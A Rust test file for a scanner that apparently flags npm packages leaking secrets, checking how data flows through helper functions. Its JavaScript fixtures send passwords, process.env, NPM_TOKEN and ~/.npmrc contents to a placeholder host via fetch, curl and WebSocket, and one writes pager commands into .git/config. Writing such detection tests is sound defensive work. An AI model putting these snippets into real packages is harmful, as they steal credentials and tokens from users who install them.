//! Helpers that several places call: each place has its own address, and its own answer.

use super::{check, flows};
use crate::engine::Engine;

const HELPER: (&str, &str) = (
    "http.js",
    "exports.post = (url, body) => fetch(url, { method: 'POST', body }).then((r) => r.json());",
);

#[test]
fn one_caller_does_not_get_the_address_of_another() {
    let client = "const { post } = require('./http');
exports.login = (password) => post('https://own.example/login', password);
exports.note = (text) => post('https://other.example/n', text);";
    let sorted = |mut all: Vec<String>| {
        all.sort_unstable();
        all
    };
    let own = sorted(flows(&[HELPER, ("i.js", client)]));
    assert_eq!(
        own,
        [
            "parameter-to-network password>https://own.example/login",
            "parameter-to-network text>https://other.example/n",
        ]
    );
    let local = "const post = (url, body) => fetch(url, { method: 'POST', body });
exports.login = (password) => post('https://own.example/login', password);
exports.note = (text) => post('https://other.example/n', text);";
    assert_eq!(sorted(flows(&[("i.js", local)])), own);
    let method = "class Client {
  request(url, body) { return fetch(url, { method: 'POST', body }); }
  login(password) { return this.request('https://own.example/login', password); }
  note(text) { return this.request('https://other.example/n', text); }
}
module.exports = Client;";
    assert_eq!(sorted(flows(&[("i.js", method)])), own);
}

#[test]
fn what_programs_are_told_by_helpers_goes_where_they_send_it() {
    check(&[
        (
            &[
                (
                    "run.js",
                    "const cp = require('child_process');\nexports.run = (cmd, args = []) => new Promise((done) => cp.spawn(cmd, args).on('exit', done));",
                ),
                (
                    "i.js",
                    "const { run } = require('./run');\nexports.sign = async (o) => { await run('tool', ['sign']); await run('curl', ['-d', JSON.stringify({ a: [o.password].join(' ') }), 'https://c.invalid/p']); };",
                ),
            ],
            "parameter-to-network password>https://c.invalid/p",
        ),
        // What another caller tells another program stays there.
        (
            &[
                (
                    "run.js",
                    "const cp = require('child_process');\nexports.run = (cmd, args) => cp.spawn(cmd, args);",
                ),
                (
                    "i.js",
                    "const { run } = require('./run');\nexports.sign = (o) => { run('tool', ['-p', o.password]); run('curl', ['https://c.invalid/p']); };",
                ),
            ],
            "",
        ),
        (
            &[(
                "i.js",
                "require('child_process').spawnSync('curl', ['--data-binary', '@-', 'https://c.invalid/p'], { input: JSON.stringify(process.env) });",
            )],
            "environment-to-network *>https://c.invalid/p",
        ),
        (
            &[(
                "i.js",
                "require('child_process').spawnSync('curl', ['https://c.invalid/p'], { env: process.env });",
            )],
            "",
        ),
        // What is constructed may be either of two.
        (
            &[(
                "i.js",
                "exports.f = (text, given) => { const Socket = given || WebSocket; const s = new Socket('wss://c.invalid/p'); s.onopen = () => s.send(JSON.stringify({ text })); };",
            )],
            "parameter-to-network text>wss://c.invalid/p",
        ),
        // An instance holds what it was made of, and so does what it becomes.
        (
            &[
                (
                    "secret.js",
                    "class Secret { constructor(v) { this.v = v; } toString() { return this.v; } }\nexports.hide = (v) => new Secret(v);",
                ),
                (
                    "i.js",
                    "const { hide } = require('./secret');\nexports.send = (o) => fetch('https://c.invalid/p', { method: 'POST', body: JSON.stringify({ a: hide(o.password) }) });",
                ),
            ],
            "parameter-to-network password>https://c.invalid/p",
        ),
    ]);
}

#[test]
fn what_a_helper_makes_of_its_arguments_is_not_lost() {
    check(&[
        (
            &[(
                "i.js",
                "function send(url, o) { o.body = process.env.NPM_TOKEN; return fetch(url, o); }\nsend('https://c.invalid/p', { method: 'POST' });",
            )],
            super::TOKEN,
        ),
        (
            &[(
                "i.js",
                "function run(args) { args.push(require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8')); require('child_process').spawn('curl', args); }\nrun(['-d', 'a', 'https://c.invalid/p']);",
            )],
            super::NPMRC,
        ),
        // The first function of a package, and a parameter far behind.
        (
            &[
                (
                    "a.js",
                    "exports.login = (password) => { fetch('https://c.invalid/p', { method: 'POST', body: password }); };",
                ),
                (
                    "i.js",
                    "const a = require('./a'); exports.go = () => a.login('x'); exports.a = a;",
                ),
            ],
            "parameter-to-network password>https://c.invalid/p",
        ),
        (
            &[
                (
                    "a.js",
                    "exports.login = (a, b, c, d, e, f, g, h, i, password) => { fetch('https://c.invalid/p', { method: 'POST', body: password }); };",
                ),
                (
                    "i.js",
                    "const a = require('./a'); exports.go = () => a.login('x'); exports.a = a;",
                ),
            ],
            "parameter-to-network password>https://c.invalid/p",
        ),
        // A call on load says nothing of what others give.
        (
            &[(
                "i.js",
                "function login(password) { fetch('https://c.invalid/p', { method: 'POST', body: password }); }\nlogin('x'); exports.login = login;\nfunction other(path) { require('fs').readFileSync(path); }\nother('a'); exports.other = other;",
            )],
            "parameter-to-network password>https://c.invalid/p",
        ),
        // Who reads an address leaves such characters out.
        (
            &[(
                "i.js",
                "exports.f = (text) => fetch('https://c.invalid/p\\x01', { method: 'POST', body: text });",
            )],
            "parameter-to-network text>https://c.invalid/p",
        ),
    ]);
    // Of two helpers around each other no address goes to the wrong one.
    let nested =
        "const to = (url) => ({ send: (text) => fetch(url, { method: 'POST', body: text }) });
to('https://c.invalid/p').send(JSON.stringify(process.env));
to('https://ok.example/').send('x');";
    let found = flows(&[("i.js", nested)]);
    assert!(
        !found.iter().any(|one| one.ends_with("ok.example/")),
        "{found:?}"
    );
}

/// The severities of what is said of callers' secrets.
fn told(files: &[(&str, &str)]) -> Vec<String> {
    let manifest = "{\"name\":\"a\",\"version\":\"1.0.0\",\"main\":\"i.js\"}";
    let all = files.iter().copied().chain([("package.json", manifest)]);
    let all = all.map(|(path, text)| (path.to_owned(), text.as_bytes().to_vec()));
    let report = Engine::new().scan_tree(all).expect("a package is scanned");
    let found = report.findings.iter();
    found
        .filter(|one| one.id == "parameter-exfiltration")
        .map(|one| format!("{:?}", one.severity).to_ascii_lowercase())
        .collect()
}

#[test]
fn a_caller_that_drops_the_answer_of_a_helper_asks_nothing() {
    let used = "exports.login = async (password) => { const user = await post('https://api.example/login', password); return user.id; };";
    let dropped = "exports.open = async (token) => { await post('https://c.invalid/p', token); };";
    let both = format!("const {{ post }} = require('./http');\n{used}\n{dropped}");
    assert_eq!(told(&[HELPER, ("i.js", &both)]), ["high"]);
    let own = format!(
        "const post = async (url, body) => {{ const r = await fetch(url, {{ method: 'POST', body }}); return r.json(); }};\n{used}\n{dropped}"
    );
    assert_eq!(told(&[("i.js", &own)]), ["high"]);
    // A login that keeps what it gets is no loss of the answer, though nobody takes its own.
    let keeps = "class Client {
  async login(password) { const r = await fetch('https://api.example/login', { method: 'POST', body: password }); this.token = (await r.json()).token; }
  async start(password) { await this.login(password); }
}
module.exports = Client;";
    assert_eq!(told(&[("i.js", keeps)]), Vec::<String>::new());
}

#[test]
fn what_is_planted_is_bounded_and_told() {
    let mut code = String::from("const fs = require('fs');\n");
    for at in 0..16 {
        let lines: String = (0..600).map(|n| format!("pager = {at}x{n}\\n")).collect();
        code.push_str(&format!(
            "fs.writeFileSync('.git/config', '[core]\\n{lines}');\n"
        ));
    }
    let manifest = "{\"name\":\"a\",\"version\":\"1.0.0\",\"main\":\"i.js\"}";
    let all = [("i.js", code.as_str()), ("package.json", manifest)];
    let all = all.map(|(path, text)| (path.to_owned(), text.as_bytes().to_vec()));
    let report = Engine::new().scan_tree(all).expect("a package is scanned");
    let told = report.coverage.unanalysed.iter();
    let told = told.filter(|one| one.detail.contains("more commands and settings"));
    assert!(told.count() > 0);
}
